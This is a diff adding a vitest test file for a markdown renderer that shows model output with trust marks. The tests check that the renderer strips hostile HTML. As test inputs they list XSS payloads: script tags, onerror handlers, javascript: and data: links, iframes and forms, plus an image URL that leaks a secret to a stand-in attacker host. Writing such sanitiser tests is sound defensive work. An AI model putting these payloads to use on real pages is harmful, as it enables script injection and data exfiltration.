@@ -1,0 +1,93 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { blocks, type Wording } from './markdown';
+import type { Judged } from './trust';
+
+const wording: Wording = (j) => ({ hint: 'hint', word: j.trust, isWordShown: j.trust === 'doubt' });
+const html = (text: string, judged: Judged[] = []) => blocks(text, judged, wording).join('');
+
+function judge(text: string, piece: string, trust: 'check' | 'doubt' = 'check'): Judged {
+	const start = text.indexOf(piece);
+	return { start, end: start + piece.length, probability: 0.4, trust };
+}
+
+function parsed(text: string, judged: Judged[] = []): HTMLElement {
+	const holder = document.createElement('div');
+	holder.innerHTML = html(text, judged);
+	return holder;
+}
+
+describe('what a model writes', () => {
+	it.each([
+		'<script>alert(1)</script>',
+		'<img src=x onerror=alert(1)>',
+		'![x](https://evil.example/?q=secret)',
+		'<a href="javascript:alert(1)">x</a>',
+		'[x](javascript:alert(1))',
+		'[x](data:text/html,y)',
+		'<style>body{display:none}</style>',
+		'<p style="position:fixed">x</p>',
+		'<iframe src="//evil.example"></iframe>',
+		'<form action="//evil.example"><input name=a></form>',
+		'<svg><use href="//evil.example"/></svg>',
+		'<math><mi xlink:href="javascript:x">y</mi></math>'
+	])('cannot act or fetch: %s', (text) => {
+		const page = parsed(text);
+		expect(
+			page.querySelector('script,img,style,iframe,form,input,svg,math,[style],[onerror]')
+		).toBeNull();
+		expect(page.innerHTML).not.toMatch(/javascript:|data:/);
+	});
+
+	it('opens links away from the desk', () => {
+		const link = parsed('[manual](https://example.org)').querySelector('a');
+		expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+		expect(link).toHaveAttribute('target', '_blank');
+	});
+
+	it('keeps tables, lists and emphasis', () => {
+		const page = parsed('| a | b |\n|---|---|\n| 1 | 2 |\n\n- **x**\n');
+		expect(page.querySelectorAll('td')).toHaveLength(2);
+		expect(page.querySelector('li strong')).toHaveTextContent('x');
+	});
+
+	it('never fails, whatever it is', () => {
+		fc.assert(
+			fc.property(fc.string({ unit: 'binary' }), (text) => void html(text)),
+			{ numRuns: 50 }
+		);
+	});
+});
+
+describe('marks', () => {
+	it('stand around the string, with words for the doubtful', () => {
+		const text = 'Code **E102** and `AX73`.';
+		const page = parsed(text, [judge(text, 'E102'), judge(text, 'AX73', 'doubt')]);
+		expect(page.querySelector('strong .trust.check')).toHaveTextContent('E102?');
+		expect(page.querySelector('code .trust.doubt')).toHaveTextContent('AX73doubt');
+	});
+
+	it('never show as characters of their own', () => {
+		const text = 'E102 [E103](https://example.org/E104)';
+		const page = parsed(
+			text,
+			['E102', 'E103', 'E104'].map((piece) => judge(text, piece))
+		);
+		expect(page.innerHTML).not.toMatch(/[\uE000-\uF8FF]|%EE/i);
+		expect(page.querySelector('a')).toHaveAttribute('href', 'https://example.org/E104');
+	});
+
+	it('cannot be forged by the text', () => {
+		const text = 'a \uE000b\uF8FE E102';
+		const page = parsed(text, [judge(text, 'E102')]);
+		expect(page.querySelectorAll('.trust')).toHaveLength(1);
+		expect(page.querySelector('.trust')).toHaveTextContent('E102');
+	});
+});
+
+it('only the last block changes while words stream', () => {
+	const before = blocks('One.\n\nTwo', [], wording);
+	const after = blocks('One.\n\nTwo and more', [], wording);
+	expect(after[0]).toBe(before[0]);
+	expect(after).toHaveLength(2);
+});
